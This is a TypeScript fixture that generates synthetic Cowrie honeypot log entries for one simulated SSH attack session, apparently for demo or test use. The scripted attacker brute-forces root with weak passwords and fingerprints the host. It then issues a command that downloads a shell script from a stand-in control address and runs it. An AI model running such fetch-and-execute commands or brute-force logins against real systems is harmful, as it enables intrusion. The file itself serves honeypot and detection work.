import type { RecordingClock } from '../clock.ts'
import { attacker, honeypot, steps } from '../places.ts'

const session = 'd3e0c0ffee01'

/** One session on the Cowrie honeypot: the same stranger, with a password that fits everywhere. */
export function cowrieLines(clock: RecordingClock): string[] {
  const record = (after: number, eventid: string, fields: object): string =>
    JSON.stringify({
      eventid,
      src_ip: attacker.address,
      session,
      sensor: honeypot.name,
      timestamp: clock.iso(steps.honeypot - after),
      ...fields,
    })
  const command = (after: number, input: string): string =>
    record(after, 'cowrie.command.input', { input, message: `CMD: ${input}` })
  return [
    record(0, 'cowrie.session.connect', {
      src_port: 40_122,
      dst_ip: honeypot.address,
      dst_port: 2222,
      protocol: 'ssh',
      message: `New connection: ${attacker.address}:40122 (${honeypot.address}:2222) [session: ${session}]`,
    }),
    ...['admin', 'root', '1234'].map((password, i) =>
      record(2 + i, 'cowrie.login.failed', {
        username: 'root',
        password,
        message: `login attempt [root/${password}] failed`,
      }),
    ),
    record(6, 'cowrie.login.success', {
      username: 'root',
      password: '123456',
      message: 'login attempt [root/123456] succeeded',
    }),
    command(9, 'uname -a'),
    command(12, 'cat /proc/cpuinfo | grep name | wc -l'),
    command(18, `cd /tmp; wget http://${attacker.controlAddress}/x86.sh; sh x86.sh`),
    record(20, 'cowrie.session.file_download', {
      url: `http://${attacker.controlAddress}/x86.sh`,
      outfile: 'var/lib/cowrie/downloads/demo',
      shasum: 'b1946ac92492d2347c6235b4d2611184a0f1e2d3c4b5a69788796a5b4c3d2e1f',
      message: `Downloaded URL (http://${attacker.controlAddress}/x86.sh)`,
    }),
    record(30, 'cowrie.session.closed', { duration: 30.1, message: 'Connection lost after 30 seconds' }),
  ]
}
